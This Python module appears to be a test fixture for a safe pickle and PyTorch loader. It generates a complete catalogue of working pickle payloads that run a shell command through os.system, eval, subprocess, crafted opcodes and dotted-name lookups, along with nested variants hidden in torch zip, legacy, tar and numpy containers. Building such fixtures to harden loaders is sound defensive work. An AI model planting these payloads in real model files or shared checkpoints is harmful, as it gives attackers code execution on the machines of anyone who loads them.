"""Files that run a command when they are trusted: every way that a pickle has, in every container.

Each of them works on the loader that it is meant for; so a reader under which nothing happens has really been attacked.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import tarfile
from dataclasses import dataclass
from typing import Any, Literal

from tests.foreign.archives import saved, with_pickle

MODULE = "attack_by_import"
"""A module beside the files that runs the command when it is imported."""
EXTENSION = 240
"""The code under which the trusting loader knows `os.system`."""


@dataclass(frozen=True)
class Attack:
    """A file, and who runs it: an unpickler, one that trusts persistent ids and extensions, too, or PyTorch."""

    name: str
    data: bytes
    loader: Literal["pickle", "trusting", "torch"] = "pickle"


class Does:
    """Becomes a call when it is pickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def text(value: str) -> bytes:
    """Gives the operation that carries a text."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def carried(data: bytes) -> bytes:
    """Gives the operation that carries bytes."""
    return b"B" + struct.pack("<I", len(data)) + data


def attacks(command: str) -> list[Attack]:
    """Gives all attacks that run a shell command; the module `MODULE` must run it, too."""
    return [*_by_reduce(command), *_by_other_operations(command), *_by_names(command), *_in_containers(command)]


def _by_reduce(command: str) -> list[Attack]:
    calls = {
        "eval": Does(eval, f"__import__('os').system({command!r})"),
        "exec": Does(exec, f"import os; os.system({command!r})"),
        "a process": Does(subprocess.call, ["sh", "-c", command]),
        "in a dictionary": {"model": {"weight": [Does(os.system, command)]}},
    }
    said = text(command)
    imported = b"cbuiltins\n__import__\n" + text("os") + b"\x85R"
    partial = b"cfunctools\npartial\ncos\nsystem\n" + said + b"\x86R)R."
    caller = b"coperator\nmethodcaller\n" + text("system") + said + b"\x86R" + imported + b"\x85R."
    return [
        *(Attack(f"reduce, protocol {number}", pickle.dumps(Does(os.system, command), number)) for number in range(6)),
        *(Attack(f"reduce: {name}", pickle.dumps(call, 2)) for name, call in calls.items()),
        Attack(
            "getattr chain", b"\x80\x02cbuiltins\ngetattr\n" + imported + text("system") + b"\x86R" + said + b"\x85R."
        ),
        Attack("functools.partial", b"\x80\x02" + partial),
        Attack("operator.methodcaller", b"\x80\x02" + caller),
        Attack("a call out of the memo", b"\x80\x02cos\nsystem\nq\x070h\x07" + said + b"\x85R."),
    ]


def _by_other_operations(command: str) -> list[Attack]:
    said = text(command)
    injected = b"}" + text("__setstate__") + b"cos\nsystem\nsb" + said + b"b."
    mapped = b"cbuiltins\nmap\ncos\nsystem\n](" + said + b"e\x86\x81"
    return [
        Attack("inst", b"(S" + repr(command).encode() + b"\nios\nsystem\n."),
        Attack("obj", b"(cos\nsystem\n" + said + b"o."),
        Attack("build: an injected __setstate__", b"\x80\x02cargparse\nNamespace\n)\x81" + injected),
        Attack("build: on a reduced object", b"\x80\x02ctypes\nSimpleNamespace\n)R" + injected),
        Attack("newobj: bytes of a map", b"\x80\x02cbuiltins\nbytes\n" + mapped + b"\x85\x81."),
        Attack("newobj_ex: bytes of a map", b"\x80\x04cbuiltins\nbytes\n" + mapped + b"\x85}\x92."),
        Attack("appends: extend with a map", b"\x80\x02ccollections\ndeque\n" + mapped + b"\x85R."),
        Attack("ext1", b"\x80\x02\x82" + bytes([EXTENSION]) + said + b"\x85R.", "trusting"),
        Attack("ext2", b"\x80\x02\x83" + struct.pack("<H", EXTENSION) + said + b"\x85R.", "trusting"),
        Attack("ext4", b"\x80\x02\x84" + struct.pack("<I", EXTENSION) + said + b"\x85R.", "trusting"),
        Attack("persistent id", b"\x80\x02" + said + b"Q.", "trusting"),
        Attack("persistent id that is text", b"P" + command.encode() + b"\n.", "trusting"),
    ]


def _by_names(command: str) -> list[Attack]:
    said = text(command)
    dotted = b"\x80\x04\x8c\x08argparse\x8c\x0a_os.system\x93"
    deep = b"\x80\x04\x8c\x08argparse\x8c\x1eNamespace.__init__.__globals__\x93"
    fetched = b"\x80\x04cbuiltins\ngetattr\n" + deep[2:] + text("get") + b"\x86R" + text("_os") + b"\x85R"
    return [
        Attack("a dotted name", dotted + said + b"\x85R."),
        Attack(
            "a dotted name to the globals",
            fetched[:2] + b"cbuiltins\ngetattr\n" + fetched[2:] + text("system") + b"\x86R" + said + b"\x85R.",
        ),
        Attack("an import by a name alone", b"c" + MODULE.encode() + b"\nanything\n."),
        Attack("an import by a call", b"\x80\x02cbuiltins\n__import__\n" + text(MODULE) + b"\x85R."),
        Attack(
            "the name under which Python 2 had it",
            b"\x80\x02c__builtin__\neval\n" + text(f"__import__('os').system({command!r})") + b"\x85R.",
        ),
    ]


def _in_containers(command: str) -> list[Attack]:
    evil = pickle.dumps(Does(os.system, command), 2)
    call = evil[2:-1]
    head = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2), pickle.dumps({"little_endian": True}, 2)]
    none, no_keys = pickle.dumps(None, 2), pickle.dumps([], 2)
    nested = b"\x80\x03ctorch.storage\n_load_from_bytes\n"
    tensor = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(("
    cpu = text("cpu") + b"K\x01"
    storage = text("storage") + b"ctorch\nFloatStorage\n" + text("0") + cpu + b"tQ"
    shape = b"K\x00K\x01\x85K\x01\x85\x89"
    number = {"archive/data/0": bytes(4)}
    return [
        Attack("a zip archive", with_pickle(evil), "torch"),
        Attack("a zip archive: as hooks", with_pickle(tensor + storage + shape + call + b"tR.", number), "torch"),
        Attack(
            "a zip archive: as the kind of a storage",
            with_pickle(tensor + text("storage") + call + text("0") + cpu + b"tQ" + shape + b"NtR.", number),
            "torch",
        ),
        Attack("an old file: its content", b"".join([*head, evil, no_keys]), "torch"),
        Attack("an old file: its first pickle", evil + b"".join(head[1:]) + none + no_keys, "torch"),
        Attack("an old file: its system", b"".join([*head[:2], evil, none, no_keys]), "torch"),
        Attack("an old file: its keys", b"".join([*head, none, evil]), "torch"),
        Attack("the oldest format", _tar({"storages": evil, "tensors": none, "pickle": none}), "torch"),
        Attack("nested: a zip archive in a pickle", nested + carried(with_pickle(evil)) + b"\x85R."),
        Attack("nested: an old file in a pickle", nested + carried(b"".join([*head, evil, no_keys])) + b"\x85R."),
        Attack("nested: a pickle in a pickle", b"\x80\x03cpickle\nloads\n" + carried(evil) + b"\x85R."),
        Attack("nested: in an array of objects", pickle.dumps(_array_with(Does(os.system, command)), 2)),
    ]


def _array_with(item: Any) -> Any:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = item
    return array


def _tar(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


def seeds() -> dict[str, bytes]:
    """Gives harmless files of every kind, as a start for damage."""
    import argparse
    import pathlib

    import numpy as np
    import torch

    options = argparse.Namespace(lr=0.1, path=pathlib.PurePosixPath("/a"), items=[1, (2, "x")], array=np.arange(3))
    state = {"epoch": 1, "model": {"w": torch.arange(4.0), "b": torch.ones(2).bfloat16()}, "args": options}
    found = {f"pickle {protocol}": pickle.dumps(options, protocol) for protocol in (0, 2, 4, 5)}
    found |= {"plain tensors": pickle.dumps(state, 4), "network": saved(torch.nn.Linear(2, 1))}
    found |= {"zip": saved(state), "old": saved(state, old=True)}
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":{"format":"pt"}}'
    found["safetensors"] = len(header).to_bytes(8, "little") + header + bytes(8)
    return found
